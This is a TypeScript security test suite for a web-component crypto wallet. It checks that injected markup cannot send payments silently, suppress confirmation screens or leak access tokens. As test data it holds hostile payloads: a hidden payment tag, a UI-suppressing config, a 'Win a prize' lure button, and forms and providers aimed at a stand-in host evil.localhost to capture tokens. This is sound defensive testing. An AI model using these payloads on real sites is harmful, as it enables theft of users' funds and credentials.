import { expect } from 'chai'
import { guestWithEther, localChain } from '../test/guest.harness.js'
import {
  bundle,
  cleanUp,
  driver,
  openFrame,
  pressUntil,
  insert,
  settled,
  waitForElement,
  sleep,
  until,
  findInside,
  world,
  type Tag,
} from '../test/page.harness.js'

const TO = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8'
const ATTACK = `<wallet-confirm-tx open headless sponsored chain="31337" value="1" value-unit="ether" to="${TO}"></wallet-confirm-tx>`
const SILENT = '{ "embeddedWallets": { "showWalletUIs": false }, "sponsored": true, "scanTransactions": false }'

describe('hostile HTML that somebody has written into the page', () => {
  let app: Tag
  let address = ''
  let rpc = ''
  /** The number of transactions when a test begins. */
  let already = 0
  let warned: string[] = []
  const { warn } = console
  const ours: HTMLElement[] = []

  /** Inserts markup by innerHTML, as a sanitiser lets it through. */
  const write = (html: string): HTMLElement => {
    const place = document.createElement('section')
    place.innerHTML = html
    document.body.append(place)
    ours.push(place)
    return place
  }
  const configure = async (config: object) => {
    const { configureWallet } = (await bundle('client.js')) as { configureWallet(config: object): void }
    configureWallet(config)
  }
  const sent = async () => {
    const answer = await fetch(rpc, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_getTransactionCount', params: [address, 'pending'] }),
    })
    return Number(((await answer.json()) as { result: string }).result)
  }
  /** Checks that the complete review is shown, and that nothing is sent without an approval. */
  const isOnlyShown = async (tag: Tag) => {
    await until(() => tag.screen === 'confirm-ethereum')
    await until(() => !findInside(tag, '.skeleton'))
    expect(tag.shadowRoot.textContent).to.contain('1 ETH')
    expect(await sent()).to.equal(already)
    tag.close()
    await until(() => !tag.open && !findInside(tag, 'dialog'))
  }

  before(async () => {
    ;({ app, address, rpc } = await guestWithEther())
    console.warn = (...words: unknown[]) => {
      warned.push(words.join(' '))
    }
  })
  beforeEach(async () => {
    warned = []
    already = await sent()
  })
  afterEach(async () => {
    for (const place of ours.splice(0)) place.remove()
    await settled()
  })
  after(async () => {
    console.warn = warn
    await configure({ embeddedWallets: { showWalletUIs: true } })
    await cleanUp()
    await app.session.logout()
  })

  it('can open the review of a payment, and sends nothing [SEC-95]', async () => {
    await isOnlyShown(write(ATTACK).firstElementChild as Tag)
  })

  it('cannot remove screens by a tag with page-wide settings, or by a JSON child', async () => {
    const page = write(
      `<wallet-app headless sponsored></wallet-app><wallet-app><script type="application/json">${SILENT}</script></wallet-app>${ATTACK}`,
    )
    await isOnlyShown(page.querySelector('wallet-confirm-tx') as Tag)
    const own = write(ATTACK.replace('></', `><script type="application/json">${SILENT}</script></`))
    await isOnlyShown(own.firstElementChild as Tag)
    expect(
      warned.filter(line => line.includes('Only a script can set embeddedWallets.showWalletUIs')),
    ).to.have.length.at.most(1)
  })

  for (const showWalletUIs of [true, false]) {
    it(`opens a visible screen even if the host's script says showWalletUIs: ${showWalletUIs}`, async () => {
      await configure({ embeddedWallets: { showWalletUIs } })
      const page = write(`<wallet-app headless></wallet-app>${ATTACK}`)
      await isOnlyShown(page.querySelector('wallet-confirm-tx') as Tag)
    })
  }

  it('a flow that a button of the page opened is shown, although the script disables screens [CONF-24]', async () => {
    await configure({ embeddedWallets: { showWalletUIs: false } })
    const page = write(
      `<wallet-button for="hidden" label="Win a prize"></wallet-button>${ATTACK.replace(' open', ' id="hidden"')}`,
    )
    const tag = page.querySelector('wallet-confirm-tx') as Tag
    const button = await waitForElement<HTMLButtonElement>(page.querySelector('wallet-button') as Tag, 'button')
    await pressUntil(
      () => tag.open,
      () => button,
    )
    await isOnlyShown(tag)
  })

  it("markup cannot set the network of a script's unseen payment, neither with a tag nor with a JSON child [SEC-95]", async () => {
    await configure({ embeddedWallets: { showWalletUIs: false }, chains: [localChain(rpc), 1] })
    document.body.prepend(
      write(
        '<wallet-confirm-tx chain="1" cluster="testnet"><script type="application/json">{ "defaultChain": 1 }</script></wallet-confirm-tx>',
      ),
    )
    const { sendTransaction } = (await bundle('client.js')) as {
      sendTransaction(request: object): Promise<{ hash: string; chainId: number }>
    }
    const { hash, chainId } = await sendTransaction({ transaction: { to: TO, value: 5n } })
    expect([chainId, await sent()]).to.deep.equal([31337, already + 1])
    expect(hash).to.match(/^0x[0-9a-f]{64}$/)
    await configure({ embeddedWallets: { showWalletUIs: true } })
  })

  it('only a property set by a script removes the screens, an attribute never does', async () => {
    await configure({ embeddedWallets: { showWalletUIs: true } })
    const tag = insert<Tag & { headless: boolean }>(`<wallet-confirm-tx to="${TO}" value="3"></wallet-confirm-tx>`)
    tag.headless = true
    const { hash } = (await tag.show()) as { hash: string }
    expect(hash).to.match(/^0x[0-9a-f]{64}$/)
    expect(tag.shadowRoot.querySelector('dialog')).to.equal(null)
    await until(() => !tag.open)
    tag.headless = false
    tag.setAttribute('headless', '')
    void tag.show()
    await until(() => tag.screen === 'confirm-ethereum')
    tag.close()
    await until(() => !tag.open)
    tag.remove()
  })

  it("markup's own provider receives no token, and nobody is signed in there", async () => {
    const { apiUrl } = await world()
    const { appId } = app.config as { appId: string }
    const theirs = apiUrl.replace('wallet.localhost', 'evil.localhost')
    const page = await openFrame()
    page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${theirs}"></wallet-app>`
    const [tag] = page.document.body.children as unknown as [Tag]
    await tag.ready
    await until(() => tag.session.$state.get().status !== 'restoring')
    expect(tag.session.$state.get().status).to.equal('unauthenticated')
    expect(await tag.session.getAccessToken()).to.equal(null)
    const requestsSent = async () =>
      (await driver<{ headers: Record<string, string>; body: unknown }[]>('requests')).filter(({ headers }) =>
        headers['host']?.startsWith('evil.localhost'),
      )
    let requests = await requestsSent()
    for (let tries = 0; requests.length === 0 && tries < 100; tries++) {
      await sleep(100)
      requests = await requestsSent()
    }
    expect(requests).not.to.deep.equal([])
    for (const { headers, body } of requests)
      expect(`${headers['authorization'] ?? ''}${JSON.stringify(body ?? '')}`).not.to.match(/eyJ|refresh_token":"/)
    page.remove()
    expect(app.session.$state.get().status).to.equal('authenticated')
  })

  it('gets no token of the signed-in user into a form to another origin, and that form is not submitted [SEC-96]', async () => {
    const { apiUrl } = await world()
    const { appId } = app.config as { appId: string }
    const theirs = `${apiUrl.replace('wallet.localhost', 'evil.localhost')}/take`
    const page = await openFrame()
    // A guest can still log in, unless markup allows no other method: then the login is complete at once.
    page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${apiUrl}"></wallet-app>
      <form action="${theirs}" method="post"><wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal></form>`
    const form = page.document.querySelector('form') as HTMLFormElement
    const modal = form.firstElementChild as Tag & { result: { wasAlreadyAuthenticated: boolean } | null }
    let sent = 0
    form.addEventListener('submit', event => {
      event.preventDefault()
      sent++
    })
    await until(() => modal.result && !modal.open)
    const theirData = () => new (page as unknown as typeof globalThis).FormData(form).get('token')
    expect([modal.result?.wasAlreadyAuthenticated, modal.value, theirData(), sent]).to.deep.equal([true, '', null, 0])
    await modal.show() // not even if a script of the page opens it
    await until(() => !modal.open)
    expect([modal.value, theirData(), sent]).to.deep.equal(['', null, 0])
    form.action = '/comments' // a form to the page's own origin gets it if a script has opened the element
    await modal.show()
    await until(() => sent)
    expect(modal.value).to.match(/^eyJ/)
    expect(theirData()).to.equal(modal.value)
    page.remove()
  })

  it('is overruled by the provider that a script names: the stored session is there again', async () => {
    const { apiUrl } = await world()
    const { appId } = app.config as { appId: string }
    const theirs = apiUrl.replace('wallet.localhost', 'evil.localhost')
    const page = await openFrame()
    page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${theirs}"></wallet-app>`
    const [tag] = page.document.body.children as unknown as [Tag]
    await tag.ready
    const { configureWallet } = (await page.eval('import("/dist/client.js")')) as {
      configureWallet(config: object): void
    }
    configureWallet({ appId, apiUrl, chains: [localChain(rpc)] })
    await until(() => tag.session.$state.get().status === 'authenticated')
    expect(await tag.session.getAccessToken()).to.match(/^eyJ/)
    page.remove()
  })

  it('a second provider is rejected with INSTANCE_CONFLICT, and its settings are ignored', async () => {
    const { apiUrl } = await world()
    const { appId } = app.config as { appId: string }
    const errors: string[] = []
    const listener = (event: Event) => errors.push((event as CustomEvent<{ code: string }>).detail.code)
    document.addEventListener('wallet-error', listener, true)
    const page = write(`<wallet-app app-id="${appId}" api-url="${apiUrl.replace('wallet.', 'evil.')}"></wallet-app>`)
    page.remove()
    document.body.prepend(page)
    await until(() => errors.includes('INSTANCE_CONFLICT'))
    await isOnlyShown(write(ATTACK).firstElementChild as Tag)
    expect(await app.session.getAccessToken()).to.match(/^eyJ/)
    document.removeEventListener('wallet-error', listener, true)
  })
})
